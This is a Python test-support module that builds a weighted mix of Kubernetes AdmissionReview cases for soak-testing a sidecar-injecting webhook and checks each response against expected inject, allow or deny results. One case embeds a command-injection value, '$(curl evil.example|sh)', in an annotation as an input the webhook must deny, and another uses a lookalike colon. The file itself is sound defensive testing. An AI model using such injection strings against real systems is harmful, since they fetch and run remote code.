"""The realistic mix of AdmissionReviews a soak sends, each with the answer it must get.

Every case carries two expectations, checked on every response:

- a hand-written one: ``inject`` (with the exact injected container names), ``allow`` (admitted
  unchanged, no patch) or ``deny`` (``allowed: false``, ``status.code`` 400, a message naming
  the offending key);
- the engine's own answer for the same input and settings, computed once in this process: the
  server's answer must equal it exactly except for the echoed uid, so an answer mixed up between
  concurrent requests, or changed by a reload, is a wrong answer.

The patched pod of every ``inject`` case is validated once here with ``tests/podcheck.py``
(kubernetes-validate strict + apiserver rules + ``restricted``); the clients apply every patch
they receive and compare the result with that validated pod.
"""

from __future__ import annotations

import base64
import copy
import json
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import jsonpatch
import orjson

from webhook.admission.decide import admit
from webhook.engine.inject import ClusterFacts
from webhook.engine.settings import Settings

REFERENCE = Path(__file__).resolve().parent.parent / "tests" / "testdata" / "reviews" / "pod-create.json"
P = "entourage.dev/"


def reference_review() -> dict[str, Any]:
    return json.loads(REFERENCE.read_text())


@dataclass
class Case:
    """One kind of request in the mix."""

    name: str
    review: dict[str, Any]
    expect: str
    """``inject``, ``allow`` or ``deny``."""
    containers: tuple[str, ...] = ()
    """For ``inject``: the names in ``auditAnnotations.injected``, in order."""
    deny_mentions: str = ""
    """For ``deny``: a string the message must contain (the key at fault)."""
    weight: int = 1
    # Filled by ``prepare``:
    answer: dict[str, Any] = field(default_factory=dict)
    """The engine's ``response`` without ``uid``."""
    patched: dict[str, Any] | None = None
    """The pod after the expected patch (validated once)."""
    body_parts: tuple[bytes, bytes] = (b"", b"")
    """The compact request JSON split around the uid, so a client splices in its own."""

    def body(self, uid: str) -> bytes:
        return self.body_parts[0] + uid.encode() + self.body_parts[1]


def _pod_review(
    annotations: Mapping[str, str] | None = None, *, namespace: str | None = None, edit: Callable[[dict[str, Any]], None] | None = None
) -> dict[str, Any]:
    review = reference_review()
    request = review["request"]
    request["object"]["metadata"].setdefault("annotations", {}).update(annotations or {})
    if namespace is not None:
        request["namespace"] = namespace
        request["object"]["metadata"]["namespace"] = namespace
    if edit is not None:
        edit(review)
    return review


def _update(review: dict[str, Any]) -> None:
    request = review["request"]
    request["operation"] = "UPDATE"
    request["oldObject"] = copy.deepcopy(request["object"])
    request["object"]["metadata"]["name"] = request["oldObject"]["metadata"]["name"] = "checkout-7d9c6b5f4-x2x9q"


def _deployment(review: dict[str, Any]) -> None:
    request = review["request"]
    pod = request["object"]
    request["kind"] = request["requestKind"] = {"group": "apps", "version": "v1", "kind": "Deployment"}
    request["resource"] = request["requestResource"] = {"group": "apps", "version": "v1", "resource": "deployments"}
    request["object"] = {
        "apiVersion": "apps/v1",
        "kind": "Deployment",
        "metadata": {
            "name": "checkout",
            "namespace": pod["metadata"].get("namespace", "shop"),
            "annotations": pod["metadata"]["annotations"],
        },
        "spec": {
            "selector": {"matchLabels": {"app": "checkout"}},
            "template": {"metadata": {"labels": {"app": "checkout"}}, "spec": pod["spec"]},
        },
    }


def _large(review: dict[str, Any]) -> None:
    """~100 KB: many env entries and volumes, like a big StatefulSet pod."""
    spec = review["request"]["object"]["spec"]
    app = spec["containers"][0]
    app.setdefault("env", []).extend({"name": f"SETTING_{index:04d}", "value": "x" * 60} for index in range(1000))
    spec.setdefault("volumes", []).extend({"name": f"config-{index}", "configMap": {"name": f"config-{index}"}} for index in range(20))


def _hostnetwork(review: dict[str, Any]) -> None:
    review["request"]["object"]["spec"]["hostNetwork"] = True


def _dry_run(review: dict[str, Any]) -> None:
    review["request"]["dryRun"] = True


def cases() -> list[Case]:
    """The soak's mix: unannotated pods dominate, as in a real cluster."""
    return [
        Case("no-annotations", _pod_review(), "allow", weight=8),
        Case("logging", _pod_review({P + "logging": "true"}), "inject", ("entourage-logging",), weight=3),
        Case(
            "logging-fluent-bit-paths",
            _pod_review({P + "logging": "fluent-bit", P + "logging-paths": "/var/log/app,/srv/logs"}),
            "inject",
            ("entourage-logging",),
        ),
        Case(
            "ambassador",
            _pod_review({P + "ambassador": "6379=redis.cache.svc.cluster.local:6379"}),
            "inject",
            ("entourage-ambassador-6379",),
            weight=2,
        ),
        Case(
            "ambassador-tls-two-routes",
            _pod_review({P + "ambassador": "8443=tls://api.example.com:443,15432=db.example.com:5432"}),
            "inject",
            ("entourage-ambassador-8443", "entourage-ambassador-15432"),
        ),
        Case(
            "wait-for",
            _pod_review(
                {
                    P + "wait-for": "dns://my-db-service,tcp://my-db-service:5432,http://search:9200/_cluster/health",
                    P + "wait-for-timeout": "2m",
                }
            ),
            "inject",
            ("entourage-wait-my-db-service", "entourage-wait-my-db-service-5432", "entourage-wait-search-9200-cluster-health"),
            weight=2,
        ),
        Case(
            "adapter",
            _pod_review({P + "adapter": "nginx-prometheus", P + "adapter.nginx-prometheus.status-port": "8081"}),
            "inject",
            ("entourage-adapter-nginx-prometheus",),
        ),
        Case(
            "combination",
            _pod_review(
                {
                    P + "logging": "true",
                    P + "ambassador": "6379=redis:6379",
                    P + "wait-for": "tcp://db:5432",
                    P + "adapter": "statsd-prometheus",
                }
            ),
            "inject",
            ("entourage-wait-db-5432", "entourage-ambassador-6379", "entourage-logging", "entourage-adapter-statsd-prometheus"),
            weight=2,
        ),
        Case(
            "combination-native",
            _pod_review(
                {P + "native-sidecars": "true", P + "logging": "true", P + "ambassador": "6379=redis:6379", P + "logging-cpu-limit": "200m"}
            ),
            "inject",
            ("entourage-ambassador-6379", "entourage-logging"),
        ),
        Case("host-network", _pod_review({P + "wait-for": "tcp://db:5432"}, edit=_hostnetwork), "inject", ("entourage-wait-db-5432",)),
        Case("large-pod", _pod_review({P + "logging": "true"}, edit=_large), "inject", ("entourage-logging",)),
        Case("opted-out", _pod_review({P + "inject": "false", P + "logging": "true"}), "allow"),
        Case(
            "already-injected",
            _pod_review({P + "logging": "true", P + "status": '{"version":1,"containers":["entourage-logging"]}'}),
            "allow",
        ),
        Case("invalid-wait-for", _pod_review({P + "wait-for": "???"}), "deny", deny_mentions=P + "wait-for"),
        Case("invalid-typo", _pod_review({P + "loging": "true"}), "deny", deny_mentions=P + "loging"),
        Case(
            "hostile-shell",
            _pod_review({P + "ambassador": "6379=redis:6379;$(curl evil.example|sh)"}),
            "deny",
            deny_mentions=P + "ambassador",
        ),
        Case("hostile-lookalike", _pod_review({P + "wait-for": "db：5432"}), "deny", deny_mentions=P + "wait-for"),
        Case(
            "invalid-too-many-routes",
            _pod_review({P + "ambassador": ",".join(f"{20000 + i}=svc{i}:80" for i in range(40))}),
            "deny",
            deny_mentions=P + "ambassador",
        ),
        Case("not-a-pod", _pod_review({P + "logging": "true"}, edit=_deployment), "allow"),
        Case("update", _pod_review({P + "logging": "true"}, edit=_update), "allow", weight=2),
        Case("dry-run", _pod_review({P + "logging": "true"}, edit=_dry_run), "inject", ("entourage-logging",)),
    ]


def namespace_cases() -> list[Case]:
    """For a webhook that knows namespaces: defaults from the namespace ``shop`` (see ``faults``)."""
    return [
        Case("ns-shop-defaults", _pod_review(namespace="shop"), "inject", ("entourage-logging",), weight=3),
        Case("ns-shop-opted-out", _pod_review({P + "inject": "false"}, namespace="shop"), "allow"),
        Case("ns-plain", _pod_review(namespace="plain"), "allow", weight=2),
        Case("ns-plain-logging", _pod_review({P + "logging": "true"}, namespace="plain"), "inject", ("entourage-logging",)),
        Case("ns-unknown", _pod_review({P + "wait-for": "???"}, namespace="elsewhere"), "deny", deny_mentions=P + "wait-for"),
    ]


UID_MARK = "@@UID@@"


def prepare(
    items: list[Case],
    settings: Settings,
    *,
    namespaces: Mapping[str, Mapping[str, str]] | None = None,
    cluster: ClusterFacts = ClusterFacts(),
    validate: bool = True,
) -> list[Case]:
    """Compute each case's expected answer with the engine, check it against the hand-written
    expectation, validate the patched pods, and pre-encode the request bodies."""
    from tests.podcheck import assert_valid_injected_pod

    lookup = (lambda name: (namespaces or {}).get(name)) if namespaces is not None else None
    for case in items:
        decision = admit(case.review, settings, namespace_annotations=lookup, cluster=cluster)
        response = dict(decision.review["response"])
        response.pop("uid")
        case.answer = response
        problem = judge(case, response)
        if problem:
            raise AssertionError(f"the engine itself answers case {case.name} wrongly: {problem}")
        if case.expect == "inject":
            patch = orjson.loads(base64.b64decode(response["patch"]))
            case.patched = jsonpatch.apply_patch(case.review["request"]["object"], patch)
            if validate:
                # a copy: podcheck.validate_schema fills in metadata.name of what it is given
                assert_valid_injected_pod(copy.deepcopy(case.patched), list(case.containers))
        marked = copy.deepcopy(case.review)
        marked["request"]["uid"] = UID_MARK
        before, after = orjson.dumps(marked).split(UID_MARK.encode())
        case.body_parts = (before, after)
    return items


def judge(case: Case, response: Mapping[str, Any]) -> str:
    """The hand-written expectation; '' when met, else what is wrong."""
    allowed = response.get("allowed")
    if case.expect == "deny":
        status = response.get("status") or {}
        if allowed is not False or status.get("code") != 400 or case.deny_mentions not in str(status.get("message", "")):
            return f"expected a denial naming {case.deny_mentions}, got allowed={allowed!r} status={status!r}"
        return ""
    if allowed is not True:
        return f"expected allowed, got allowed={allowed!r} status={response.get('status')!r}"
    if case.expect == "allow":
        return f"expected no patch, got {response.get('patch', '')[:40]}..." if "patch" in response else ""
    injected = tuple((response.get("auditAnnotations") or {}).get("injected", "").split(","))
    if response.get("patchType") != "JSONPatch" or injected != case.containers:
        return f"expected injected {','.join(case.containers)}, got {','.join(injected)!r} patchType={response.get('patchType')!r}"
    return ""


def weighted(items: list[Case]) -> list[Case]:
    """The cases repeated by weight: a client walks this list round-robin from its own offset."""
    return [case for case in items for _ in range(case.weight)]
